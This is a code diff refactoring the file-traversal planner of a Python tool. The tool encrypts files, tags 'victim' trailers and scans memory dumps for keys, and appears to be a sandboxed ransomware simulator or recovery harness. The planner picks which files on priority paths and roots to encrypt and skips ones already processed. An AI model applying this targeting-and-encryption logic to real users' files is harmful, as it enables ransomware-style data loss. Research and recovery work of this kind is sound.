@@ -31,7 +31,7 @@ from cryptography.hazmat.primitives.asymmetric import padding, rsa
 
 from .cipher import SessionKey
 from .errors import LayoutSpecError, SandboxViolation, WrapError
-from .filecodec import FileRecoveryReport, FileStatus, encrypt_file
+from .filecodec import FileRecoveryReport, FileStatus, encrypt_file, walk_files
 from .memscan import ALG_AES_256, HANDLE_XOR_CONSTANT, KEY_FLAGS, KEY_SIZE, default_map_path
 from .minidump import read_minidump, write_minidump
 from .trailer import VICTIM_BLOCK_LEN, VictimBlock, probe
@@ -186,45 +186,21 @@ def plan_traversal(
     policy = policy or SkipPolicy.default()
     planned: list[Path] = []
     seen: set[str] = set()
-
-    def consider(path: Path, check_substrings: bool) -> None:
-        key = str(path.resolve())
-        if key in seen:
-            return
-        seen.add(key)
-        if policy.exclusion_reason(path, check_substrings=check_substrings):
-            return
-        try:
-            if probe(path) is not None:
-                return
-        except OSError as exc:
-            log.warning("cannot probe %s: %s", path, exc)
-            return
-        planned.append(path)
-
-    def walk(directory: Path, check_substrings: bool) -> None:
-        try:
-            with os.scandir(directory) as it:
-                entries = sorted(it, key=lambda e: e.name)
-        except OSError as exc:
-            log.warning("cannot list %s: %s", directory, exc)
-            return
-        for entry in entries:
-            child = Path(entry.path)
+    for paths, check_substrings in ((priority_paths, False), (roots, True)):
+        for path in walk_files(Path(p).absolute() for p in paths):
+            key = str(path.resolve())
+            if key in seen:
+                continue
+            seen.add(key)
+            if policy.exclusion_reason(path, check_substrings=check_substrings):
+                continue
             try:
-                if entry.is_symlink():
+                if probe(path) is not None:
                     continue
-                if entry.is_dir(follow_symlinks=False):
-                    walk(child, check_substrings)
-                elif entry.is_file(follow_symlinks=False):
-                    consider(child, check_substrings)
             except OSError as exc:
-                log.warning("cannot stat %s: %s", child, exc)
-
-    for priority in priority_paths:
-        walk(Path(priority).absolute(), check_substrings=False)
-    for root in roots:
-        walk(Path(root).absolute(), check_substrings=True)
+                log.warning("cannot probe %s: %s", path, exc)
+                continue
+            planned.append(path)
     return planned
 
 
